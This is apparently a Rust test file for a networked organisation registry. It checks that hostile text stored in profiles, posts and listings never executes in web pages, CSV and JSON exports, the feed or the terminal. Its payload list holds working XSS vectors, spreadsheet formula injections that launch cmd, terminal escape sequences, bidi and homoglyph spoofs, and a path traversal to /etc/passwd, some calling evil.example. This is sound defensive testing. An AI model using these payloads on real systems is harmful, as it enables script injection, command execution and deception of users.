//! Hostile words travel through two nodes to pages, answers, exports, feeds and the terminal, and fire nowhere.

use std::io::Write as _;
use std::process::Command;

use harness::process::{interop, node, program, run_to_end, until};
use harness::story::World;
use protocol::text::is_unprintable;
use serde_json::Value;
use tempfile::{NamedTempFile, tempdir};

use crate::foreign::{path_text, run_python};

#[test]
fn no_word_of_a_stranger_fires_anywhere() {
    let mut world = World::default();
    let agency = world.found("agency", "2026-01-02");
    let mut paths = vec!["/".to_owned(), "/?page=1".to_owned(), "/?page=2".to_owned(), "/node".to_owned()];
    let mut dids = Vec::new();
    for (number, payload) in payloads().iter().enumerate() {
        let member = world.found(&format!("member-{number}"), "2026-01-03");
        let short: String = payload.chars().take(1_000).collect();
        let own: Vec<(&str, &str)> = [
            "name.en",
            "name.ar",
            "acronym",
            "legal_name",
            "place",
            "website",
            "description.en",
            "governance",
            "competence.one",
            "unknown.field",
            "country",
            "region",
            "ecosystem.odd",
            "cooperation.offers.en",
            "logo",
        ]
        .map(|field| (field, short.as_str()))
        .into();
        world.edit(&member, "profile/self", &own, "2026-01-04");
        let listed =
            ["name", "place", "website", "register.line", "external.odd", "recognition.1.scheme", "lat"];
        let listed: Vec<(&str, &str)> = listed.map(|field| (field, short.as_str())).into();
        world.edit(&agency, &format!("listing/p{number}"), &listed, "2026-01-05");
        let posted = [
            "kind",
            "title.en",
            "title.ar",
            "description.en",
            "place",
            "website",
            "country",
            "region",
            "ecosystem.odd",
            "technology.odd",
            "withdrawn.odd",
        ];
        let posted: Vec<(&str, &str)> = posted.map(|field| (field, short.as_str())).into();
        world.edit(&member, &format!("post/p{number}"), &posted, "2026-01-06");
        let linked = [("cooperation", "1"), ("cooperation.text.en", short.as_str())];
        world.edit(&member, &format!("link/{}", agency.id), &linked, "2026-01-06");
        let title: String = payload.chars().take(50).collect();
        let portal: Vec<(&str, &str)> =
            ["title.en", "title.ar", "description.en", "website", "rule.text", "unknown.field"]
                .map(|field| (field, title.as_str()))
                .into();
        world.edit(&member, "portal/theirs", &portal, "2026-01-05");
        paths.push(format!("/portals/{}/theirs", member.id));
        paths.push(format!("/organisations/{}", member.id));
        paths.push(format!("/listings/{}/p{number}", agency.id));
        paths.push(format!("/posts/{}/p{number}", member.id));
        dids.push(member.id.to_string());
    }
    paths.extend(["/posts", "/posts?page=2", "/portals", "/counts", "/map"].map(str::to_owned));
    paths.push(format!("/organisations/{}", agency.id));
    let folders = [tempdir().expect("a temporary folder"), tempdir().expect("a temporary folder")];
    let first = node(folders[0].path()).start();
    first.publish(&world.items);
    let second = node(folders[1].path()).peer(&first.address("/tcp/")).start();
    until("the second node holds the same", || (second.digest() == first.digest()).then_some(()));

    for part in paths.chunks(WALKED_AT_ONCE) {
        let mut listed = NamedTempFile::new().expect("a temporary file");
        listed.write_all(serde_json::to_string(part).expect("JSON").as_bytes()).expect("it takes paths");
        let mut walk = Command::new("node");
        walk.arg(interop().join("page_walk.mjs")).args([second.url(), path_text(listed.path())]);
        let walked = run_to_end(walk);
        assert_eq!(walked.code, Some(0), "{}", walked.stderr);
        let walked: Value = serde_json::from_str(&walked.stdout).expect("the program prints JSON");
        assert_eq!(walked["pages"].as_u64(), Some(part.len() as u64));
        assert_eq!(walked["ok"], true, "{}", serde_json::to_string_pretty(&walked["fired"]).expect("JSON"));
    }
    for path in &paths[4..7] {
        assert!(
            second.get(path).text().contains("&#60;script&#62;fired=1;alert(1)"),
            "{path} shows the words"
        );
    }

    let (tables, maps) = (&["csv", "jsonl"][..], &["csv", "jsonl", "geojson"][..]);
    for (file, forms) in [("organisations", maps), ("listings", maps), ("posts", tables), ("links", tables)] {
        for form in forms {
            let text = second.get(&format!("/v1/export/{file}.{form}")).text();
            still(&format!("{file}.{form}"), &text.replace('\r', ""));
            match *form {
                "csv" => csv_rows(&text).iter().flatten().for_each(|cell| computes_nothing(cell)),
                "jsonl" => {
                    text.lines().for_each(|line| drop(serde_json::from_str::<Value>(line).expect("JSON")))
                }
                _ => drop(serde_json::from_str::<Value>(&text).expect("JSON")),
            }
        }
    }
    let feed = second.get("/changes.atom");
    still("the feed", &feed.text());
    let mut file = NamedTempFile::new().expect("a temporary file");
    file.write_all(&feed.body).expect("it takes a feed");
    let read = run_python("atom_read.py", &[path_text(file.path())], None);
    assert_eq!(read["ok"], true, "{read}");
    still("the search", &second.get("/v1/landscape?limit=200").text());
    still("the posts", &second.get("/v1/posts?limit=200").text());
    still("the links", &second.get(&format!("/v1/organisations/{}/links?limit=200", agency.id)).text());

    let home = tempdir().expect("a temporary folder");
    let mut said = 0;
    for (number, did) in dids.iter().enumerate() {
        let post = format!("{did}/p{number}");
        still("a post", &second.get(&format!("/v1/posts/{post}")).text());
        still("an organisation", &second.get(&format!("/v1/organisations/{did}")).text());
        still("a profile", &second.get(&format!("/v1/organisations/{did}/documents/profile/self")).text());
        for words in [
            &["profile", "show", did.as_str()][..],
            &["--json", "profile", "show", did.as_str()],
            &["post", "show", post.as_str()],
        ] {
            let mut command = Command::new(program("hanse"));
            command.arg("--home").arg(home.path()).args(["--node", second.url()]).args(words);
            let ended = run_to_end(command);
            assert_eq!(ended.code, Some(0), "{words:?}: {}", ended.stderr);
            still(&format!("{words:?}"), &ended.stdout);
            still(&format!("{words:?}"), &ended.stderr);
            said += ended.stdout.len();
        }
    }
    assert!(said > 10_000, "the terminal showed the words");
    let mut command = Command::new(program("hanse"));
    command.arg("--home").arg(home.path()).args([
        "--node",
        second.url(),
        "landscape",
        "search",
        "--limit",
        "50",
    ]);
    let found = run_to_end(command);
    still("the search at the terminal", &found.stdout);
    still("the search at the terminal", &found.stderr);
}

#[test]
fn a_name_that_may_be_taken_for_another_is_marked_for_the_reader() {
    let mut world = World::default();
    let member = world.found("lookalike", "2026-01-03");
    world.edit(
        &member,
        "profile/self",
        &[("name.en", "Silic\u{43e}n Alps"), ("country", "AT")],
        "2026-01-04",
    );
    let folder = tempdir().expect("a temporary folder");
    let running = node(folder.path()).start();
    running.publish(&world.items);
    let mark = "(⚠ letters of several alphabets)";
    for path in [format!("/organisations/{}", member.id), "/?page=1".to_owned()] {
        assert!(running.get(&path).text().contains(mark), "{path}");
    }
    let mut command = Command::new(program("hanse"));
    let scid = member.id.to_string();
    command.arg("--home").arg(folder.path().join("home"));
    command.args(["--node", running.url(), "organisation", "show", &scid]);
    let shown = run_to_end(command);
    assert!(shown.stdout.contains(mark), "{}{}", shown.stdout, shown.stderr);
}

/// A program has a minute to end.
const WALKED_AT_ONCE: usize = 40;

/// Nothing in a text moves the cursor, hides or reorders.
fn still(what: &str, text: &str) {
    let found = text.chars().find(|c| is_unprintable(*c));
    assert_eq!(found.map(char::escape_unicode).map(|c| c.to_string()), None, "in {what}");
}

/// No spreadsheet takes the cell for a formula, unless it is a number.
fn computes_nothing(cell: &str) {
    let begins =
        cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}']);
    assert!(!begins || cell.parse::<f64>().is_ok(), "{cell:?}");
}

/// Reads RFC 4180.
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell, mut is_quoted) = (Vec::new(), Vec::new(), String::new(), false);
    let mut letters = text.chars().peekable();
    while let Some(c) = letters.next() {
        match c {
            '"' if is_quoted && letters.peek() == Some(&'"') => cell.extend(letters.next()),
            '"' => is_quoted = !is_quoted,
            ',' if !is_quoted => row.push(std::mem::take(&mut cell)),
            '\n' if !is_quoted => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            '\r' if !is_quoted => {}
            c => cell.push(c),
        }
    }
    let columns = rows.first().map_or(0, Vec::len);
    assert!(!is_quoted && rows.iter().all(|row| row.len() == columns), "every row has {columns} cells");
    rows
}

/// What strangers have written elsewhere to make readers' programs do something.
fn payloads() -> Vec<String> {
    let mut all: Vec<String> = PAYLOADS.map(str::to_owned).into();
    all.push("long".repeat(2_000));
    all.push(format!("Z{}algo", "\u{0301}\u{0489}\u{0338}".repeat(100)));
    all
}

const PAYLOADS: [&str; 36] = [
    "<script>fired=1;alert(1)</script>",
    "</title></textarea></style></script><script>alert(2)</script>",
    "\"><img src=x onerror=\"fired=1;alert(3)\">",
    "' onmouseover='alert(4)' autofocus onfocus='alert(4)' x='",
    "<svg/onload=alert(5)><animate onbegin=alert(5) attributeName=x dur=1s>",
    "<svg><script href=\"data:text/javascript,alert(6)\"/></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(7)>",
    "<iframe srcdoc=\"<script>parent.fired=1</script>\"></iframe>",
    "<object data=\"https://evil.example/x.swf\"></object><embed src=\"//evil.example/y\">",
    "<base href=\"https://evil.example/\"><meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example/y.css';</style>",
    "}body{background:url(https://evil.example/b)}",
    "style=\"background:url(javascript:alert(8))\" expression(alert(8))",
    "javascript:alert(9)",
    "JaVaScRiPt:alert(10)//https://ok.example/",
    "data:text/html,<script>alert(11)</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEyKSIvPg==",
    "vbscript:msgbox(1)",
    "https://ok.example\"onmouseover=alert(13)//",
    "//evil.example/%0d%0aSet-Cookie:a=b",
    "[click](javascript:alert(14)) ![x](https://evil.example/pixel.png)",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %}",
    "=HYPERLINK(\"https://evil.example/\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1\r\n=2+2,\"=3+3\"",
    "\u{ff1d}1+1",
    "\u{1b}[2J\u{1b}]0;owned\u{7}\u{1b}]8;;https://evil.example/\u{7}link\u{1b}]8;;\u{7}\u{9b}31m\u{8}\u{8}",
    "safe\u{202e}exe.gpj\u{202c} \u{2067}\u{2066}rtl\u{2069}",
    "ze\u{200b}ro\u{feff}wi\u{2060}dth\u{ad} \u{e0041}\u{e007f}",
    "P\u{430}yp\u{430}l \u{421}luster",
    "\u{627}\u{644}\u{639}\u{646}\u{642}\u{648}\u{62f} <b>(clusters)</b> \u{5d0}\u{5d1}\u{5d2}",
    "null\u{0}byte\u{85}\u{2028}line\u{2029}\u{fffe}\u{ffff}",
    "]]><!-- --><![CDATA[<x/>]]>&lt;&amp;&#60;script&#62;",
    "../../../etc/passwd%00 %2e%2e%2f\\..\\ CON",
];
